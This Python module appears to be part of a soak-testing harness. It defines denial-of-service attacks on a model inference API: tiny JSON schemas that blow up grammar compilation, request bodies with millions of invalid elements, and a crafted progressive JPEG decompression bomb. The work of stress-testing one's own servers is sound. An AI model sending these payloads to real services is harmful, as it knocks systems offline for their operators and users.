"""Attacks by clients with the token: whole requests that are small to send and would be large to answer.

There is a pause between two of them: what is measured is what one costs, and not how many a client can send.
"""

from __future__ import annotations

import base64
import itertools
import json
import struct
import time
from collections.abc import Iterator
from typing import Any

from auras_ros.live.soak_vlm.attacks.target import AttackTarget
from auras_ros.live.soak_vlm.client import http_bytes

CHAT = "/v1/chat/completions"
ANSWER_S = 30.0  # the attack goes on with its next request after this
GONE_S = 0.2  # a client that does not wait is gone after this
PAUSE_S = 0.02
ONES = 700_000
MANY_ONES = 8_000_000
SCANS = 1000
SIDE = 4096  # pixels


def grammars(target: AttackTarget) -> None:
    """Schemas of a few bytes that took minutes and gigabytes to compile: by one large number, and by several small."""
    for number in itertools.count():
        for schema in _schemas(number):
            if not target.is_running():
                return
            fields = {"prompt": "a", "max_tokens": 12, "structured_outputs": {"json": schema}}
            _ask(target, "/v1/completions", json.dumps(fields).encode(), ANSWER_S)


def many_errors(target: AttackTarget) -> None:
    """Bodies of which every element is wrong: 700,000 and 8 million ones, as stop texts, as parts, as unknown names."""
    ones = b"[" + b"1," * (ONES - 1) + b"1]"
    hello = b'"messages": [{"role": "user", "content": "a"}]'
    names = b",".join(b'"x%d": 1' % number for number in range(ONES // 10))
    bodies = [
        b"{" + hello + b', "stop": ' + ones + b"}",
        b'{"messages": [{"role": "user", "content": ' + ones + b"}]}",
        b"{" + hello + b", " + names + b"}",
        b"{" + hello + b', "stop": [' + b"1," * (MANY_ONES - 1) + b"1]}",
    ]
    for body in itertools.cycle(bodies):
        if not target.is_running():
            return
        _ask(target, CHAT, body, ANSWER_S)


def scans(target: AttackTarget) -> None:
    """A progressive JPEG of 0.1 MB that is a thousand passes over 16 million pixels; half the clients do not wait."""
    url = f"data:image/jpeg;base64,{base64.b64encode(progressive_jpeg(SIDE, SIDE, SCANS)).decode()}"
    image = {"type": "image_url", "image_url": {"url": url}}
    body = json.dumps({"messages": [{"role": "user", "content": [image]}], "max_tokens": 2}).encode()
    for wait_s in itertools.cycle((GONE_S, ANSWER_S)):
        if not target.is_running():
            return
        _ask(target, CHAT, body, wait_s)


def _schemas(number: int) -> Iterator[dict[str, Any]]:
    """No two of them are equal: what was refused or compiled once may be remembered."""
    for multiple in (1_000_003, 2_000_003, 5_000_011):
        yield {"type": "integer", "multipleOf": multiple + number}
    yield {"type": "integer", "allOf": [{"multipleOf": 997}, {"multipleOf": 991}], "minimum": number}
    properties = {f"p{index}": {"type": "integer", "multipleOf": 9001 + 2 * index} for index in range(60)}
    yield {"type": "object", "properties": properties, "title": str(number)}
    yield {"type": "integer", "multipleOf": 9000 + number % 900, "minimum": number}


def _ask(target: AttackTarget, path: str, body: bytes, wait_s: float) -> None:
    """Sends a request, and waits for the beginning of its answer. Raises OSError."""
    time.sleep(PAUSE_S)
    with target.connect() as connection:
        connection.sendall(http_bytes(path, body, token=target.token))
        connection.settimeout(wait_s)
        try:
            connection.recv(1 << 16)
        except TimeoutError:
            return


def progressive_jpeg(width: int, height: int, scan_count: int) -> bytes:
    """A grey picture whose scans are all but empty: each refines coefficients that are all zero.

    One Huffman code of one bit each: for DC the difference 0, for AC the end of a band that lasts for 2^14 blocks and
    as many more as the 14 bits behind it say.
    """
    blocks = -(-width // 8) * -(-height // 8)
    flat_dc = _packed("0" * blocks)
    band = ""
    left = blocks
    while left > 0:
        run = max(1 << 14, min(left, (1 << 15) - 1))
        band += f"0{run - (1 << 14):014b}"
        left -= run
    flat_band = _packed(band)
    one_code = bytes([1] + [0] * 15)
    return b"".join(
        [
            b"\xff\xd8",
            _segment(0xDB, bytes(1) + bytes([1]) * 64),  # quantisation by 1
            _segment(0xC2, struct.pack(">BHHBBBB", 8, height, width, 1, 1, 0x11, 0)),  # progressive, one component
            _segment(0xC4, bytes([0x00]) + one_code + bytes([0x00])),  # DC: the difference has no bits
            _segment(0xC4, bytes([0x10]) + one_code + bytes([0xE0])),  # AC: end of band, 14 bits follow
            _segment(0xDA, bytes([1, 1, 0x00, 0, 0, 0x00])) + flat_dc,
            _segment(0xDA, bytes([1, 1, 0x00, 1, 63, 0x01])) + flat_band,
            (_segment(0xDA, bytes([1, 1, 0x00, 1, 63, 0x10])) + flat_band) * scan_count,
            b"\xff\xd9",
        ]
    )


def _segment(marker: int, data: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data


def _packed(bits: str) -> bytes:
    """Filled up with ones; a byte FF is followed by a zero."""
    bits += "1" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big").replace(b"\xff", b"\xff\x00")
